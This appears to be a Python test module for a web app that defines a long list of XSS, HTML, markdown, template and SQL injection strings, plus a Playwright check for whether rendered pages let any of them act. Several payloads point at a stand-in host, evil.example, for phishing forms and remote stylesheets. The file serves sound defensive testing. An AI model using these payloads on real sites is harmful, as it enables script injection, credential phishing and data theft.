"""Strings that must not be able to harm the page, whoever wrote them, and the check for it."""

from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field

from playwright.sync_api import Page

OWN = "window.owned=1"
_TAGS = (
    f"<script>{OWN}</script>",
    f"<ScRiPt>{OWN}</sCrIpT>",
    f"<script src=data:text/javascript,{OWN}></script>",
    f"<scr<script>ipt>{OWN}</scr</script>ipt>",
    f"</title><script>{OWN}</script>",
    f"</textarea><script>{OWN}</script>",
    f"</style><script>{OWN}</script>",
    f"</button></li></ol></div><script>{OWN}</script>",
    f"--><script>{OWN}</script><!--",
    f"]]><script>{OWN}</script>",
    f"<iframe srcdoc='<script>parent.{OWN}</script>'></iframe>",
    f"<iframe src=javascript:parent.{OWN}></iframe>",
    f"<object data=javascript:{OWN}></object>",
    f"<embed src=javascript:{OWN}>",
    f"<svg><script>{OWN}</script></svg>",
    f"<svg><a xlink:href=javascript:{OWN}><text y=20>go</text></a></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={OWN}>",
    f"<template><img src=x onerror={OWN}></template>",
    f"<noscript><p title='</noscript><img src=x onerror={OWN}>'>",
    "<style>*{display:none}</style>",
    "<style>@import url(//evil.example/a.css);</style>",
    "<link rel=stylesheet href=//evil.example/a.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<form action=//evil.example><input name=password><button>Sign in</button></form>",
    "<div style='position:fixed;inset:0;background:red;z-index:9999'>paid for</div>",
    "<dialog open>Your session has ended</dialog>",
    "<plaintext>",
    "<xmp>",
    "<!--",
)
_EVENTS = (
    "onerror: img src=x, video src=x, audio src=x, img/src=x, object data=x, img srcset=x",
    "onload: svg, body, iframe, svg/, style, link rel=stylesheet href=/theme.css",
    "onfocus: input autofocus, select autofocus, textarea autofocus, a href=#x, keygen autofocus",
    "ontoggle: details open",
    "onclick: p",
    "onstart: marquee",
    "ONERROR: img src=x",
    "onmouseover: div",
    "onpointerenter: b",
    "onanimationstart: x",
)
_HANDLERS = tuple(
    f"<{tag} {handler}={OWN}>"
    for handler, tags in (line.split(": ") for line in _EVENTS)
    for tag in tags.split(", ")
)
_QUOTES = (
    f'" onmouseover="{OWN}" x="',
    f"' onmouseover='{OWN}' x='",
    f'" autofocus onfocus="{OWN}',
    f'"><img src=x onerror={OWN}>',
    f"'><img src=x onerror={OWN}>",
    f"`><img src=x onerror={OWN}>",
    f"&lt;script&gt;{OWN}&lt;/script&gt;",
    f"&#60;img src=x onerror={OWN}&#62;",
    f"%3Cscript%3E{OWN}%3C/script%3E",
    f"\\x3cscript\\x3e{OWN}\\x3c/script\\x3e",
    f"\\u003cimg src=x onerror={OWN}\\u003e",
    f"${{{OWN}}}",
    f"{{{{constructor.constructor('{OWN}')()}}}}",
    f"{{{{#each value}}}}{OWN}{{{{/each}}}}",
    f"<%= {OWN} %>",
    f"#{{{OWN}}}",
    f"`+({OWN})+`",
    f"');{OWN};//",
    f'");{OWN};//',
    "@children ${value} ${props.value}",
)
_LINKS = (
    f"javascript:{OWN}",
    f"JaVaScRiPt:{OWN}",
    f" javascript:{OWN}",
    f"java\tscript:{OWN}",
    f"java\nscript:{OWN}",
    f"\x01javascript:{OWN}",
    f"javascript://example.org/%0a{OWN}",
    f"vbscript:{OWN}",
    f"data:text/html,<script>{OWN}</script>",
    "data:text/html;base64,PHNjcmlwdD53aW5kb3cub3duZWQ9MTwvc2NyaXB0Pg==",
    "file:///etc/passwd",
    "blob:https://example.org/1",
    "//evil.example/x",
    "http:evil.example",
    "https://user:pass@evil.example/",
    f"https://example.org/\" onclick={OWN} x=\"",
    f"https://example.org/'><script>{OWN}</script>",
    "https://[::1",
    "https://example.org/\u202egpj.exe",
)  # fmt: skip
_MARKDOWN = (
    f"[read this](javascript:{OWN})",
    f"![x](https://evil.example/x.png \"{OWN}\")",
    f"[x]: javascript:{OWN}\n[x]",
    f"<javascript:{OWN}>",
    "![](https://evil.example/pixel.gif)",
    f"`<img src=x onerror={OWN}>`",
    f"```html\n<img src=x onerror={OWN}>\n```",
    "# not a heading\n\n| not | a table |\n|---|---|",
    f"$$\\href{{javascript:{OWN}}}{{x}}$$",
    "[1] [2] [99] [1](https://evil.example)",
)  # fmt: skip
_TEXT = (
    "\u202egnp.tnecowni\u202c",
    "\u2066\u2067\u2068\u202a\u202b\u202d",
    "\u061c\u200e\u200f\u200b\u200d\ufeff",
    "\x00null\x00bytes\x00",
    "\x1b[31mterminal\x1b[0m \x07 \x08",
    "line\u2028separator\u2029s",
    "שלום עולם, זו כותרת",
    "هذا عنوان باللغة العربية مع أرقام 123",
    "Z" + "\u0301" * 300,
    "W" * 3000,
    "long word " * 1000,
    "x" * 100_000,
    f"<img src=x onerror={OWN}>" * 3000,
    "\U0001f469\u200d\U0001f469\u200d\U0001f467" * 200,
    "﷽" * 100,
    "\ufffe\uffff\U0010ffff",
    "\t\n\r \u00a0 \u3000",
    "../../../../etc/passwd",
    "..\\..\\windows\\system32",
    "'; DROP TABLE article; --",
    "%s%n{0}{title!r}",
    "constructor __proto__ toString",
)  # fmt: skip
HOSTILE = (*_TAGS, *_HANDLERS, *_QUOTES, *_LINKS, *_MARKDOWN, *_TEXT)

_INJECTED = f"""() => {{
  const found = [];
  const ours = "#turns, #article, #conversations, #limits, #archive, #masthead, #views-nav";
  const never = "script, iframe, object, embed, img, video, audio, link, meta, base, style, math, "
    + "marquee, template, plaintext, xmp, noscript, svg:not(.strip > svg), [style*=fixed], "
    + "dialog[open], [srcdoc], [action*='//']";
  for (const root of document.querySelectorAll(ours)) {{
    for (const one of root.querySelectorAll(never)) found.push(one.outerHTML.slice(0, 200));
    for (const one of root.querySelectorAll("*")) {{
      for (const {{ name, value }} of one.attributes) {{
        if (name.startsWith("on")) found.push(`${{name}}=${{value.slice(0, 100)}}`);
        if (["href", "src", "xlink:href"].includes(name) && !/^https?:\\/\\//.test(value))
          found.push(`${{name}}=${{value.slice(0, 100)}}`);
      }}
      const wide = one.scrollWidth > one.clientWidth + 1;
      const scrolls = ["auto", "scroll"].includes(getComputedStyle(one).overflowX);
      if (wide && scrolls && one.clientWidth && !one.closest(".scrolled, textarea, input"))
        found.push(`scrolls sideways: ${{one.id || one.className}}`);
    }}
  }}
  const root = document.documentElement;
  if (root.scrollWidth > innerWidth) found.push("the page scrolls sideways");
  if ({OWN.replace("=1", "")} !== undefined) found.push("a script ran");
  return found;
}}"""


@dataclass
class Watch:
    """What a page has done that it should not have."""

    page: Page
    seen: list[str] = field(default_factory=list)

    def harm(self) -> list[str]:
        """Everything found wrong so far, on this view and before."""
        return [*self.seen, *self.page.evaluate(_INJECTED)]


@contextmanager
def watching(page: Page) -> Iterator[Watch]:
    """Watch for dialogs, errors in the console, and requests to other servers."""
    watch = Watch(page)
    page.on("dialog", lambda dialog: (watch.seen.append(dialog.message), dialog.dismiss()))
    page.on("console", lambda m: m.type == "error" and watch.seen.append(m.text))
    page.on("pageerror", lambda error: watch.seen.append(str(error)))
    page.on("popup", lambda popup: watch.seen.append(popup.url))
    yield watch
